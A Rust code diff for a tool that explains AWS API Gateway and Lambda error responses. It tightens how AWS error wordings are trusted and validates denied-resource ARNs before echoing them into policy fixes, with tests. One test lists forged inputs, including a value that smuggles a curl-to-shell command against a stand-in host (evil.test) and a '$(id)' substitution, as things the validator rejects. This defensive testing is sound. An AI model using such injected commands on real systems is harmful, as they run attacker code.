@@ -8,8 +8,8 @@ use super::failure::{Answer, Auth, Locale, RouteKind};
 use super::reason::finding;
 use super::words::{digits, joined, says};
 use super::{Diagnosis, EvidenceItem, Verdict};
-use crate::cors::HeaderList;
-use crate::text::before;
+use crate::cors::{HeaderList, normalize_method};
+use crate::text::{before, next};
 
 /// An answer as far as the script can read it.
 #[derive(Clone, Debug, Default)]
@@ -25,7 +25,8 @@ pub struct Answered {
 /// Why the server answered as it did.
 pub fn explain_answer(answer: &Answer, answered: &Answered, page: &Page) -> Diagnosis {
     let mut facts = Facts::new(&answer.request, &answer.route, page);
-    facts.denied = denied_resource(&answered.body);
+    facts.denied = denied_resource(&facts, &answered.body);
+    facts.door = gateway(&facts, answered);
     let (verdict, codes) = recognise(&facts, answered);
     let mut findings = Vec::new();
     for code in codes {
@@ -44,8 +45,25 @@ fn said(answered: &Answered, locale: Locale) -> EvidenceItem {
     EvidenceItem::new("answer", "readable", Some(answered.status), text)
 }
 
-/// Codes, most likely first.
+/// Codes, most likely first. Other servers use the same words: they are proof only where something else says that it is AWS.
 pub(super) fn recognise(facts: &Facts, answered: &Answered) -> (Verdict, Vec<Code>) {
+    let (verdict, codes) = worded(facts, answered);
+    let proven = verdict != Verdict::Certain || answered.status < 400 || is_aws(facts, answered);
+    (if proven { verdict } else { Verdict::Likely }, codes)
+}
+
+/// AWS says so in a header, or the app or the host does.
+fn is_aws(facts: &Facts, answered: &Answered) -> bool {
+    const MARKS: [&str; 5] =
+        ["x-amzn-errortype", "x-amzn-requestid", "x-amz-apigw-id", "apigw-requestid", "x-amz-cf-id"];
+    MARKS.iter().any(|name| answered.headers.contains(name))
+        || facts.given_kind.is_some_and(|kind| kind != RouteKind::Custom)
+        || facts.is_execute_api()
+        || facts.is_function_url()
+}
+
+/// What the words of an answer say.
+fn worded(facts: &Facts, answered: &Answered) -> (Verdict, Vec<Code>) {
     let one = |code| (Verdict::Certain, vec![code]);
     let body = answered.body.as_str();
     let says = |words: &str| says(body, words);
@@ -59,7 +77,7 @@ pub(super) fn recognise(facts: &Facts, answered: &Answered) -> (Verdict, Vec<Cod
     match answered.status {
         // wordings that no AWS page confirms
         401 if says("The incoming token has expired") => (Verdict::Likely, vec![Code::CognitoTokenRejected]),
-        401 if says("\"Unauthorized\"") => unauthorized(facts, answered),
+        401 if is_message(body, "Unauthorized") => unauthorized(facts, answered),
         403 => forbidden(facts, answered),
         404 if is_message(body, "Not Found") => (Verdict::Likely, vec![Code::NotFound, Code::ApplicationAnswered]),
         400 if says("Missing required request parameters") || says("Invalid request body") => one(Code::RequestRefused),
@@ -71,7 +89,8 @@ pub(super) fn recognise(facts: &Facts, answered: &Answered) -> (Verdict, Vec<Cod
         502 if matches!(facts.kinds(), [(RouteKind::FunctionUrl, _)]) => {
             (Verdict::Likely, vec![Code::MalformedProxyResponse, Code::ApplicationAnswered])
         }
-        503 if is_message(body, "Service Unavailable") => one(Code::IntegrationTimeout),
+        // no page of AWS says that this is a timeout
+        503 if is_message(body, "Service Unavailable") => (Verdict::Likely, vec![Code::IntegrationTimeout]),
         504 if says("Endpoint request timed out") => one(Code::IntegrationTimeout),
         _ => (Verdict::Likely, vec![Code::ApplicationAnswered]),
     }
@@ -161,7 +180,8 @@ fn forbidden(facts: &Facts, answered: &Answered) -> (Verdict, Vec<Code>) {
     if says("is not authorized to perform: lambda:InvokeFunction") {
         return one(Code::FunctionUrlForbidden);
     }
-    if says("User is not authorized to access this resource") {
+    // more may follow: "with an explicit deny"
+    if body.starts_with("{\"Message\":\"User is not authorized to access this resource") {
         return one(Code::AuthorizerDenied);
     }
     // Lambda writes "Message", API Gateway "message"
@@ -202,11 +222,35 @@ fn failed(facts: &Facts, answered: &Answered) -> (Verdict, Vec<Code>) {
 }
 
 /// `… is not authorized to perform: execute-api:Invoke on resource: arn:…`
-pub(super) fn denied_resource(body: &str) -> Option<String> {
+pub(super) fn denied_resource(facts: &Facts, body: &str) -> Option<String> {
     const WORDS: &[u8] = b"on resource: ";
     let start = body.as_bytes().windows(WORDS.len()).position(|window| window == WORDS)?;
     let resource = before(body.get(start + WORDS.len()..)?, |b| matches!(b, b' ' | b'"' | b'<'));
-    resource.starts_with("arn:").then(|| resource.to_owned())
+    is_arn_of(facts, resource).then(|| resource.to_owned())
+}
+
+/// Whether it is the ARN of the call: a policy is pasted with it, and whoever answers could write any text there.
+/// `arn:aws:execute-api:REGION:ACCOUNT:API/STAGE/METHOD/PATH`, the account masked.
+fn is_arn_of(facts: &Facts, resource: &str) -> bool {
+    let mut rest = Some(resource);
+    let mut part = || next(&mut rest, |b| b == b':').unwrap_or_default();
+    let (arn, partition, service, region, account) = (part(), part(), part(), part(), part());
+    let mut part = || next(&mut rest, |b| b == b'/').unwrap_or_default();
+    let (api, stage, method) = (part(), part(), part());
+    let path = rest.unwrap_or_default();
+    let is_masked =
+        account.len() == 12 && account.bytes().enumerate().all(|(at, b)| b.is_ascii_digit() || b == b'*' && at < 8);
+    let is_right = arn == "arn" && partition.starts_with("aws") && service == "execute-api" && is_masked;
+    let words = [partition, region, api, stage];
+    is_right
+        && words.iter().all(|word| !word.is_empty() && word.bytes().all(is_of_word))
+        && path.bytes().all(|b| is_of_word(b) || matches!(b, b'/' | b'.' | b'~' | b'%'))
+        && method == normalize_method(&facts.request.method)
+        && facts.may_be_at(api, path)
+}
+
+const fn is_of_word(byte: u8) -> bool {
+    byte.is_ascii_alphanumeric() || matches!(byte, b'-' | b'_')
 }
 
 /// Whether the body is AWS's `{"message":"…"}` with these words and nothing else.
@@ -303,7 +347,49 @@ mod tests {
                 .iter()
                 .any(|fix| fix.text.contains(&format!("Resource: {resource}\n")) || fix.text.ends_with(resource))
         );
-        assert_eq!(denied_resource("on resource: something else"), None);
+        let facts = Facts::new(&answer.request, &answer.route, &page());
+        assert_eq!(denied_resource(&facts, &format!("on resource: {resource}")).as_deref(), Some(resource));
+        for forged in [
+            "something else",
+            "arn:x'\n;curl${IFS}https://evil.test|sh;:'",
+            "arn:aws:execute-api:*:*:*",
+            "arn:aws:execute-api:ap-northeast-1:********9012:abc123/prod/GET/*",
+            "arn:aws:execute-api:ap-northeast-1:********9012:abc123/*/GET/admin/users",
+            "arn:aws:execute-api:ap-northeast-1:********9012:*/prod/GET/admin/users",
+            "arn:aws:execute-api:ap-northeast-1:************:abc123/prod/GET/admin/users",
+            "arn:aws:execute-api:ap-northeast-1:********9012:abc123/prod/DELETE/admin/users",
+            "arn:aws:execute-api:ap-northeast-1:********9012:abc123/prod/GET/other",
+            "arn:aws:execute-api:ap-northeast-1:********9012:abc123/prod/GET/admin/users'$(id)",
+            "arn:aws:iam:ap-northeast-1:********9012:abc123/prod/GET/admin/users",
+        ] {
+            assert_eq!(denied_resource(&facts, &format!("on resource: {forged}")), None, "{forged}");
+        }
+        let own = answer_to("https://mine.execute-api.ap-northeast-1.amazonaws.com/prod/admin/users", Auth::Iam, None);
+        let facts = Facts::new(&own.request, &own.route, &page());
+        assert_eq!(denied_resource(&facts, &format!("on resource: {resource}")), None, "another API");
+    }
+
+    #[test]
+    fn the_words_of_aws_from_another_server_are_no_proof() {
+        let explained = |status, headers: &[(&str, &str)], body: &str| {
+            let headers = headers.iter().copied().collect();
+            let answered = Answered { status, headers, body: body.to_owned() };
+            let diagnosis = explain_answer(&answer_to("https://api.test/x", Auth::Bearer, None), &answered, &page());
+            (diagnosis.verdict, diagnosis.findings[0].code)
+        };
+        let bearer = [("www-authenticate", "Bearer")];
+        let unauthorized = r#"{"message":"Unauthorized"}"#;
+        let likely = |code| (Verdict::Likely, code);
+        assert_eq!(explained(401, &bearer, r#"{"error":"Unauthorized"}"#), likely("application-answered"));
+        assert_eq!(explained(401, &bearer, unauthorized), likely("jwt-rejected"));
+        let marked = [("www-authenticate", "Bearer"), ("apigw-requestid", "x")];
+        assert_eq!(explained(401, &marked, unauthorized), (Verdict::Certain, "jwt-rejected"));
+        let words = r#"{"reason":"User is not authorized to access this resource"}"#;
+        assert_eq!(explained(403, &[], words), likely("application-answered"));
+        let words = r#"{"Message":"User is not authorized to access this resource"}"#;
+        assert_eq!(explained(403, &[], words), likely("authorizer-denied"));
+        let marked = [("x-amzn-errortype", "AccessDeniedException")];
+        assert_eq!(explained(403, &marked, words), (Verdict::Certain, "authorizer-denied"));
     }
 
     #[test]
